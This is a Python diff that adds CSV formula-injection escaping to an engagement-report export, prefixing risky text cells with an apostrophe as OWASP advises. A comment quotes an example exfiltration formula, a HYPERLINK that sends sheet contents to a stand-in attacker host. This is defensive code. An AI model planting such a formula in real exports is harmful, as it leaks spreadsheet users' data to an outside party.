@@ -312,23 +312,40 @@ def _table(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
 # ---- CSV -----------------------------------------------------------------------------------
 
 
+# A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell beginning with one of these
+# as a formula: `=HYPERLINK("https://evil.example/?"&A1,"Click")` in an imported title would
+# leak the sheet. OWASP's advice is to make such cells text with a leading apostrophe.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(text: str) -> str:
+    """`text` made safe for a CSV cell: prefixed with `'` when it begins with a character a
+    spreadsheet would read as the start of a formula (`FORMULA_STARTS`), else unchanged.
+    Only for text from outside; our own numbers and timestamps never need it."""
+    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+
+
 def csv_rows(entries: Iterable[PostEngagement]) -> Iterable[list[str]]:
+    """The CSV's rows, one per snapshot, in `CSV_COLUMNS` order. Every text cell goes
+    through `spreadsheet_text`; counts, the rate and timestamps are formatted here and are
+    never negative, so they stay numbers."""
+    text = spreadsheet_text
     for e in entries:
         for s in e.snapshots:
             yield [
-                e.month,
-                e.ref,
-                e.title,
-                e.platform,
-                e.remote_id,
-                e.url,
+                text(e.month),
+                text(e.ref),
+                text(e.title),
+                text(e.platform),
+                text(e.remote_id),
+                text(e.url),
                 e.posted_at.isoformat() if e.posted_at else "",
-                s.offset,
+                text(s.offset),
                 s.taken_at.isoformat() if s.taken_at else "",
-                s.state,
+                text(s.state),
                 *("" if s.figures.get(f) is None else str(s.figures[f]) for f in FIGURES),
                 "" if s.engagement_rate is None else f"{s.engagement_rate:.6f}",
-                "; ".join(s.unavailable),
+                text("; ".join(s.unavailable)),
             ]
 
 
